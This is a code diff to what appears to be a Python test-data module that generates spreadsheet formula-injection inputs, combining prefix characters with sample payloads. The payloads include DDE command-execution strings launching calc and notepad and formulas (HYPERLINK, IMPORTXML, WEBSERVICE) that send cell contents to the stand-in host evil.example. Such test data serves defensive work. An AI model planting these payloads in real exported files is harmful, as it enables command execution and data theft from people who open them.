@@ -14,12 +14,35 @@ from factsite.load.text import CONTROL
 LISTS = Path(__file__).parent / "lists"
 MARK = "payload"
 
-SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "''=", '"=', "＝", "＋", "－", "＠", "%", "|", ";=", ";'=", "\t-", ',"=')
+SIGNS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    "\n=",
+    " =",
+    "'=",
+    "''=",
+    '"=',
+    "＝",
+    "＋",
+    "－",
+    "＠",
+    "%",
+    "|",
+    ";=",
+    ";'=",
+    "\t-",
+    ',"=',
+)
 CALLS = (
     "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"click")', "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
     "SUM(1+1)*cmd|' /C notepad'!'A1'", "rundll32|'URL.dll,OpenURL calc.exe'!A", 'WEBSERVICE("http://evil.example")', "0",
 )  # fmt: skip
-TABLES = tuple(sign + call for sign, call in product(SIGNS, CALLS)) + (
+TABLES = (
+    *(sign + call for sign, call in product(SIGNS, CALLS)),
     'a;=1+1', 'a,"=1+1', 'a\t=1+1', 'a\r\n=1+1', 'a";"=1+1', "a ; +1", '"=1+1";"', "a;'=1+1", "'", "''", "'a", ";", "a;b", "-5 to 3", "+49 30 1",
 )  # fmt: skip
 """What begins as a formula does, at the beginning of a cell or after what some programs part cells by."""
